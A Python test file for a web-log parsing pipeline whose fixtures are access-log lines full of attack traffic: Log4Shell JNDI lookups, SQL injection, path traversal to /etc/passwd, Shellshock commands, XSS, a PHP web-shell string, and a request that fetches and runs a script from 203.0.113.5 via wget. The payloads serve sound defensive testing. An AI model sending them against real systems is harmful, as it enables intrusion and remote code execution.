"""What attackers, scanners and broken clients leave in a log: each line is a hit, for each was a request."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from pipelines.places import SOURCE_ROOT
from pipelines.traffic import Outcome
from pipelines.traffic.formats.requests import METHODS
from tests.traffic.killing import totals

Take = Callable[..., list[Outcome]]
Held = Callable[[str], list[tuple[Any, ...]]]
HEAD = "192.0.2.7 - - [21/Nov/2026:13:55:36 +0100]"
LONG = "/ab" * 3000
M = "(malformed)"
# request and what stands behind it → method, path, status, bytes
CASES = [
    ('"GET /?x=${jndi:ldap://203.0.113.5:1389/a} HTTP/1.1" 404 226 "-" "-"', "GET", "/", 404, 226),
    ('"GET / HTTP/1.1" 200 226 "${jndi:ldap://203.0.113.5/a}" "${jndi:${lower:l}dap://203.0.113.5/a}"', "GET", "/", 200, 226),
    ('"GET /${jndi:dns://203.0.113.5/a} HTTP/1.1" 404 0 "-" "-"', "GET", "/${jndi:dns://(masked)/a}", 404, 0),
    ('"GET /item?id=1%27%20OR%20%271%27=%271 HTTP/1.1" 500 12 "-" "sqlmap/1.7"', "GET", "/item", 500, 12),
    ("\"GET /item?id=1' UNION SELECT 1,2,'x'-- HTTP/1.1\" 500 12 \"-\" \"x' OR 1=1--\"", "GET", "/item", 500, 12),
    ('"GET /item?id=1" OR "1"="1 HTTP/1.1" 403 12 "-" "-"', "GET", "/item", 403, 12),
    ('"GET /item?id=\\"1\\" HTTP/1.1" 403 12 "-" "a \\"quoted\\" agent"', "GET", "/item", 403, 12),
    ('"GET /../../../../etc/passwd HTTP/1.1" 400 12 "-" "-"', "GET", "/../../../../etc/passwd", 400, 12),
    ('"GET /..%2f..%2fetc%2fpasswd%00.jpg HTTP/1.1" 404 12 "-" "-"', "GET", "/(masked)", 404, 12),
    ('"GET /cgi-bin/x HTTP/1.1" 404 12 "() { :;}; echo \\"x\\"" "() { :;}; /bin/bash -c \'id\'"', "GET", "/cgi-bin/x", 404, 12),
    ('"GET /x HTTP/1.1" 404 12 "() { :;}; echo "x"" "() { :; }; echo "y" z"', "GET", "/x", 404, 12),
    ('"\\x16\\x03\\x01\\x00\\xF4\\x01" 400 157 "-" "-"', None, M, 400, 157),
    ('"\x16\x03\x01\x02\x00\x01\x00\xfc" 400 157 "-" "-"', None, M, 400, 157),
    ('"\\x04\\x01\\x00P\\xC6" 400 157 "-" "-"', None, M, 400, 157),
    ('"\0\0\0TSMB\0" 400 0 "-" "-"', None, M, 400, 0),
    ('"\x03\0\0/*\xe0\0\0\0\0\0Cookie: mstshash=x" 400 157 "-" "-"', None, M, 400, 157),
    ('"GET /\\x00 HTTP/1.1" 404 12 "-" "-"', "GET", "/(masked)", 404, 12),
    ('"GET /a\0b HTTP/1.1" 404 12 "-" "-"', "GET", "/(masked)", 404, 12),
    ('"" 400 0 "-" "-"', None, M, 400, 0),
    ('"-" 408 - "-" "-"', None, M, 408, None),
    ('"-" 400 0', None, M, 400, 0),
    ('" " 400 0 "-" "-"', None, M, 400, 0),
    ('"GET" 400 0 "-" "-"', None, M, 400, 0),
    ('"GET /" 400 0 "-" "-"', "GET", "/", 400, 0),
    ('"GET /a page with blanks HTTP/1.1" 200 12 "-" "-"', "GET", "/a page with blanks", 200, 12),
    ('"GET /a HTTP/1.1" 200 12 "https://www.example.org/a b c" "-"', "GET", "/a", 200, 12),
    ('"CONNECT 203.0.113.5:443 HTTP/1.1" 405 12 "-" "-"', "CONNECT", "(proxy)", 405, 12),
    ('"GET http://203.0.113.5/azenv.php HTTP/1.1" 404 12 "-" "-"', "GET", "/azenv.php", 404, 12),
    ('"PROPFIND / HTTP/1.1" 405 12 "-" "-"', "PROPFIND", "/", 405, 12),
    ('"OPTIONS * HTTP/1.0" 200 - "-" "internal dummy connection"', "OPTIONS", "*", 200, None),
    ('"PRI * HTTP/2.0" 400 12 "-" "-"', "PRI", "*", 400, 12),
    ('"TRACK / HTTP/1.1" 405 12 "-" "-"', "TRACK", "/", 405, 12),
    ('"get / HTTP/1.1" 400 12 "-" "-"', "GET", "/", 400, 12),
    ('"QUIT" 400 12 "-" "-"', None, M, 400, 12),
    ('"SSH-2.0-Go" 400 12 "-" "-"', None, M, 400, 12),
    ('"\\n" 400 12 "-" "-"', None, M, 400, 12),
    ('"GET /shell?cd+/tmp;wget+http://203.0.113.5/x;sh+x HTTP/1.1" 404 12 "-" "Hello, world"', "GET", "/shell", 404, 12),
    ('"GET /<script>alert(1)</script> HTTP/1.1" 404 12 "-" "<?php system($_GET[0]); ?>"', "GET", "/<script>alert(1)</script>", 404, 12),
    ('"GET /"><script>alert("x")</script> HTTP/1.1" 404 12 "-" "-"', "GET", '/"><script>alert("x")</script>', 404, 12),
    ('"GET /a|id HTTP/1.1" 404 12 "-" "${${::-j}ndi:x}"', "GET", "/a|id", 404, 12),
    ('"GET /%c0%ae%c0%ae/a HTTP/1.1" 404 12 "-" "-"', "GET", "/(masked)/a", 404, 12),
    (f'"GET {LONG} HTTP/1.1" 414 12 "-" "-"', "GET", "/ab" * 133 + "/(masked)", 414, 12),
    ('"GET /a HTTP/1.1" 499 0 "-" "' + "x" * 9000 + '"', "GET", "/a", 499, 0),
    ('"GET /a HTTP/1.1" 000 0 "-" "-"', "GET", "/a", None, 0),
    ('"GET /a HTTP/1.1" - - "-" "-"', "GET", "/a", None, None),
]  # fmt: skip


def written(rest: str) -> bytes:
    return f"{HEAD} {rest}\n".encode("latin-1")


def test_alone_in_a_file_each_is_a_hit(landing: Path, take: Take, held: Held) -> None:
    for number, (rest, *_) in enumerate(CASES):
        (landing / f"{number}.log").write_bytes(written(rest))
    assert totals(take(max_files=len(CASES))) == (len(CASES), 0, 0, 0)
    found = held("SELECT method, path, status, sent_bytes FROM hits")
    assert sorted(map(repr, found)) == sorted(repr(tuple(case[1:])) for case in CASES)


def test_in_one_file_with_others_each_is_a_hit(landing: Path, take: Take, held: Held) -> None:
    names = ["john doe", '""', "admin'--", "-", "a@b"]
    users = [written('"GET /user HTTP/1.1" 401 1 "-" "-"').replace(b"- - [", f"- {name} [".encode()) for name in names]  # fmt: skip
    (landing / "a.log").write_bytes(b"".join([*(written(rest) for rest, *_ in CASES), *users]))
    assert totals(take()) == (len(CASES) + len(names), 0, 0, 0)
    found = held("SELECT method, path, status, sent_bytes FROM hits ORDER BY line")
    assert found[: len(CASES)] == [tuple(case[1:]) for case in CASES]
    assert {path for _, path, *_ in found[len(CASES) :]} == {"/user"}


def test_every_method_that_is_read_is_known_to_the_rules_of_quality() -> None:
    suite = json.loads((SOURCE_ROOT / "expectations" / "hits.json").read_text(encoding="utf-8"))
    (rule,) = (rule for rule in suite["expectations"] if rule["meta"]["rule"] == "method_is_known")
    assert rule["kwargs"]["value_set"] == list(METHODS)
